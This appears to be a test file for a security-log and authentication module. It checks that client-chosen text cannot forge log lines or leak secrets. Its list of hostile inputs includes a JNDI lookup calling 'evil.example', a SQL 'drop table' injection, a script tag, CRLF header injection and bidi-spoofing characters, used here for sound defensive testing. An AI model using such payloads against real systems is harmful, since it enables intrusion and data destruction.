import { createApp, Module, provide, type App } from '@plinth/core';
import { DataModule } from '@plinth/data';
import { describeDialect } from '@plinth/data/testing';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { ApiKeys, AuthModule, OneTimeTokens, RecoveryCodes, SecurityLog, Totp, type AuthOptions, type SecurityEvent } from '@plinth/auth';
import { createAuthSecurityLog, sqlSecurityLogStore } from '@plinth/auth/data';
import { appKey } from '../support.js';

class Needs {
  constructor(
    readonly log: SecurityLog,
    readonly apiKeys: ApiKeys,
    readonly oneTime: OneTimeTokens,
    readonly totp: Totp,
    readonly codes: RecoveryCodes,
  ) {}
}

async function start(
  options: AuthOptions = {},
  imports: NonNullable<Parameters<typeof Module>[0]>['imports'] = [],
  env: Record<string, string> = {},
) {
  const lines: string[] = [];
  @Module({
    imports: [AuthModule.with({ imports, ...options }), ...imports],
    providers: [provide(Needs, { deps: [SecurityLog, ApiKeys, OneTimeTokens, Totp, RecoveryCodes] })],
  })
  class Root {}
  const app: App = await createApp(Root, {
    env: { APP_KEY: appKey(), PORT: '0', LOG_LEVEL: 'info', ...env },
    envFile: false,
    logger: { write: (line: string) => void lines.push(line) },
  });
  await app.start();
  return { app, lines, ...app.get(Needs), [Symbol.asyncDispose]: () => app[Symbol.asyncDispose]() };
}

const base: SecurityEvent = { type: 'order.refunded', outcome: 'success' };
/** What a text may hold that makes one line two, or one text look like another. */
const hostile = [
  'eve\n{"level":30,"msg":"security: sign-in.completed: success"}',
  'eve\r\nSet-Cookie: a=b',
  'eve\u2028new line\u2029new paragraph\u0085next line',
  '\u001b[2J\u001b[1;1Hall is well',
  '\u009b31mred',
  'eve\u202etxt.exe\u202c \u2066root\u2069 \u200f\u061c',
  'null\u0000byte',
  'half \ud800 and \udc00',
  '%s %d %o ${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'x'.repeat(100_000),
  '😀'.repeat(10_000),
  "'; drop table auth_security_log; --",
];
// eslint-disable-next-line no-control-regex
const unfit = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

test('nothing that a client chooses makes a line of its own, turns text around or hides it, in any member of a record [AU-21]', async () => {
  await using t = await start();
  for (const text of hostile)
    await t.log.record({ ...base, userId: text, actor: text, ip: text, details: { reason: text, [text.slice(0, 60)]: 1 } });
  const records = await t.log.recent('<script>alert(1)</script>', { limit: 1 });
  expect(records, 'what is harmless in a log stays as it was').toHaveLength(1);
  const seen: string[] = [];
  for (const text of hostile) {
    const subject = text.toWellFormed().replaceAll(new RegExp(unfit.source, 'gu'), ' ').slice(0, 255).toWellFormed();
    const [record] = await t.log.recent(subject, { limit: 1 });
    expect(record, JSON.stringify(text.slice(0, 30))).toBeDefined();
    seen.push(JSON.stringify(record), record!.actor!, record!.client!, String(record!.data['reason']), ...Object.keys(record!.data));
  }
  for (const text of seen) expect(unfit.test(text), JSON.stringify(text.slice(0, 80))).toBe(false);
  expect(await t.log.verify()).toMatchObject({ ok: true, records: hostile.length });
  for (const line of t.lines) expect(line.trimEnd().split(/[\r\n]/), 'one line each').toHaveLength(1);
});

test('names of details that objects are born with are kept, and change nothing [AU-21]', async () => {
  await using t = await start();
  const details = JSON.parse('{"__proto__":"a","constructor":"b","toString":"c","1":1,"0":0,"":"empty"}') as Record<string, string>;
  await t.log.record({ ...base, userId: 'ada', details });
  const [record] = await t.log.recent('ada');
  expect(new Map(Object.entries(record!.data))).toEqual(new Map(Object.entries(details)));
  expect(await t.log.verify()).toMatchObject({ ok: true, records: 1 });
  for (const value of [{ a: 1 }, ['a'], null, undefined, Number.NaN, Infinity, 1n, Symbol('x'), () => 'x'])
    await expect(t.log.record({ ...base, details: { value: value as never } }), String(value)).rejects.toMatchObject({
      code: 'AUTH_SECURITY_LOG_EVENT',
    });
  for (const type of ['x', 'a.b\n', 'A.b', 'a..b', '__proto__', 'a.b;', `a.${'b'.repeat(80)}`, ''])
    await expect(t.log.record({ ...base, type: type as never }), type).rejects.toMatchObject({ code: 'AUTH_SECURITY_LOG_EVENT' });
});

test('no secret that is tried, right or wrong, is in the log or in a record [AU-21]', async () => {
  await using t = await start();
  const { key } = await t.apiKeys.create({ owner: 'ada', name: 'deploy\r\nX-Injected: 1' });
  const other = key.replace(/.{6}$/, 'aaaaaa');
  const { requestId, code } = await t.oneTime.issueCode({ purpose: 'sign-in', subject: 'ada', lifetime: 60 });
  const { token } = await t.oneTime.issue({ purpose: 'reset', subject: 'ada', lifetime: 60 });
  const recovery = await t.codes.generate('ada');
  const { secret } = await t.totp.enrol('ada', 'ada@example.com\r\nX: 1');
  const tries = [
    t.apiKeys.verify(key),
    t.apiKeys.verify(other),
    t.oneTime.takeCode('other', requestId, code),
    t.oneTime.takeCode('sign-in', requestId, '00000000'),
    t.oneTime.take('other', token),
    t.totp.verify('ada', '123456'),
    t.codes.use('ada', `${recovery[0]!}A`),
    t.codes.use('ada', recovery[1]!),
  ];
  await Promise.allSettled(tries);
  await new Promise((resolve) => setTimeout(resolve, 50));
  await t.app.stop();
  const text = t.lines.join('');
  const records = await t.log.recent('ada', { limit: 100 });
  expect(records.length).toBeGreaterThan(4);
  for (const part of [
    key,
    key.slice(-20),
    other,
    requestId,
    code,
    token,
    secret,
    ...recovery,
    ...recovery.map((each) => each.replaceAll('-', '')),
  ]) {
    expect(text.includes(part), part).toBe(false);
    expect(JSON.stringify(records).includes(part), part).toBe(false);
  }
});

test('the name of an authenticator and of its account cannot leave their place in the address of the QR code [AU-10]', async () => {
  await using t = await start({ secondFactor: { issuer: 'Acme & Co?secret=AAAA' } });
  const { uri, secret } = await t.totp.enrol('ada', 'ada@example.com?secret=BBBB&issuer=Evil#\r\n%0d%0a/../');
  const url = new URL(uri);
  expect(url.searchParams.getAll('secret')).toEqual([secret]);
  expect(url.searchParams.getAll('issuer')).toEqual(['Acme & Co?secret=AAAA']);
  expect(uri).not.toMatch(/[\r\n#]/);
});

await describeDialect('the security log under hostile texts', { describe, test, beforeAll, afterAll }, (suite) => {
  test('whatever was recorded is found whole again: no database trims, folds or rounds what was sealed [AU-21]', async () => {
    const data = DataModule.with({ migrations: [createAuthSecurityLog], migrate: 'start' });
    await using t = await start({ securityLog: { store: sqlSecurityLogStore } }, [data], { DATABASE_URL: suite.database.url });
    const texts = [
      ...hostile,
      'Ada',
      'ada',
      'ada ',
      ' ada',
      'a\u0301da',
      '\u00e1da',
      '',
      '\ufeffada',
      '\uffff',
      'ada\u00a0',
      '\\',
      '"',
      "'",
    ];
    for (const userId of texts) await t.log.record({ ...base, userId, actor: userId, details: { text: userId } });
    const numbers = [-0, 1e21, 5e-324, Number.MAX_VALUE, Number.MAX_SAFE_INTEGER + 2, 0.1 + 0.2, -1e-7];
    for (const value of numbers) await t.log.record({ ...base, userId: 'numbers', details: { value } });
    expect(await t.log.verify()).toMatchObject({ ok: true, records: texts.length + numbers.length });
    // Users whose ids differ in case, accents or blanks at the end do not read each other's.
    for (const userId of ['Ada', 'ada', 'ada ', ' ada', 'a\u0301da', '\u00e1da', 'ada\u00a0'])
      expect(await t.log.recent(userId), JSON.stringify(userId)).toHaveLength(1);
    expect((await t.log.recent('numbers', { limit: 20 })).map((record) => record.data['value']).reverse()).toEqual(
      numbers.map((value) => value + 0),
    );
  });
});
